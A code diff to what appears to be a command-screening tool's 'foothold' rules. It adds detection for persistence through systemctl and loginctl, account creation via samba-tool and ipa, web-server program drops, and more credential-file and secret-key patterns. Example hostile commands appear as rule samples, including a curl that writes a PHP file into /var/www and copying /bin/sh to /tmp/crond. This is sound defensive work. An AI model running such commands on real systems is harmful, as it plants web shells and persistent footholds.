@@ -4,12 +4,18 @@ import { SHELLS } from '../../carriers/wrappers.ts'
 import { resolvePath } from '../../line/paths.ts'
 import { baseName } from '../../model.ts'
 import { EVERYBODYS, inPlace, matching, only, type Rule, tools, verb } from '../rule.ts'
+import { appended, overwritten } from '../targets.ts'
 import { fits, INJECTS } from './intrusion-tables.ts'
 
 /** Names, or patterns of names, of files that hold credentials. */
 const CREDENTIALS =
   /^\*?\.?(?:id_(?:rsa|dsa|ecdsa|ed25519)\S*|\S*\.(?:pem|ppk|kdbx|pfx|p12|keytab|ovpn|jks|key)|credentials?(?:\.\w+)?|accessTokens\.json|access_tokens\.db|msal_token_cache\S*|azureProfile\.json|\S*passw(?:or)?d\S*|netrc|pgpass|htpasswd|gnupg|aws|azure|ssh|logins\.json|key[34]\.db|shadow\S*|vault_pass\S*|token)$/i
-const WORDS = /passw(?:or)?d|passwd|secret|credential|api[_-]?key|private key|BEGIN (?:RSA|OPENSSH)|token/i
+const WORDS =
+  /passw(?:or)?d|passwd|secret|credential|api[_-]?key|private key|BEGIN (?:RSA|OPENSSH)|token|\bAKIA|\bghp_/i
+
+/** A program below a directory whose files a web server runs. */
+const WEB_PROGRAM =
+  /^\/(?:var\/www|srv\/(?:www|http)|usr\/(?:share|local)\/nginx|usr\/lib\/cgi-bin|var\/lib\/tomcat\d*|opt\/tomcat\/webapps)\/(?:.*\.(?:php\d?|phtml|phar|jspx?|aspx?|cgi|pl|py|war)|(?:.*\/)?cgi-bin\/[^/]+|(?:.*\/)?\.(?:htaccess|user\.ini))$/
 
 export const FOOTHOLD_RULES: readonly Rule[] = [
   {
@@ -44,22 +50,33 @@ export const FOOTHOLD_RULES: readonly Rule[] = [
     id: 'runs-later',
     level: 'moderate',
     why: 'Has a command run later, when nobody is looking.',
-    tools: tools('at batch systemd-run'),
+    tools: tools('at batch systemd-run systemctl loginctl'),
     when: (c, o) =>
       c.name === 'systemd-run'
         ? matching(c.args, /^--on-\w+/)
-        : only(!o.flag('l', 'c', 'd', 'r', 'V', 'q'), c.args.length > 0 || c.name === 'batch'),
+        : c.name === 'loginctl'
+          ? only(verb(o) === 'enable-linger', true)
+          : c.name === 'systemctl'
+            ? // A unit is named by its file only if it does not stand where units belong.
+              only(
+                /^(?:enable|link|start|reenable)$/.test(verb(o)),
+                matching(o.operands.slice(1), /^(?!\/(?:etc|usr|lib)\/).*\//),
+              )
+            : only(!o.flag('l', 'c', 'd', 'r', 'V', 'q'), c.args.length > 0 || c.name === 'batch'),
     example: "systemd-run --on-calendar '*:0/1' ./job",
   },
   {
     id: 'account-add',
     level: 'moderate',
     why: 'Adds an account, or changes with which shell one logs in.',
-    tools: tools('useradd adduser newusers pw ldapadd ldapmodify chsh dscl'),
+    tools: tools('useradd adduser newusers pw ldapadd ldapmodify chsh dscl samba-tool ipa'),
     when: (c, o) => {
       if (c.name.startsWith('ldap')) return c.args.length > 0
       if (o.flag('help', 'h', 'l', 'list-shells', 'D') || o.operands.length + c.args.length === 0)
         return undefined
+      if (c.name === 'samba-tool')
+        return only(/^(?:create|add)$/.test(verb(o, 1)) && verb(o) === 'user', true)
+      if (c.name === 'ipa') return only(/^(?:user|sudorule|role)-add/.test(verb(o)), true)
       if (c.name === 'pw') return only(/^user(?:add|mod)$/.test(verb(o)), true)
       if (c.name === 'dscl')
         return only(/ -?(?:create|append|passwd) /.test(` ${c.args.map((arg) => arg.text).join(' ')} `), true)
@@ -86,6 +103,17 @@ export const FOOTHOLD_RULES: readonly Rule[] = [
           ),
       ),
     example: 'cp /bin/sh /tmp/crond',
+  },
+  {
+    id: 'web-code',
+    level: 'moderate',
+    why: 'Puts a program where a web server runs it for everybody who asks for it.',
+    tools: ['*'],
+    when: (c, o) =>
+      [...overwritten(c, o), ...appended(c, o)].filter((arg) =>
+        WEB_PROGRAM.test(resolvePath(arg.text, c.scope)),
+      ),
+    example: 'curl -o /var/www/html/up.php https://example.com/up.txt',
   },
   {
     id: 'commands-watched',
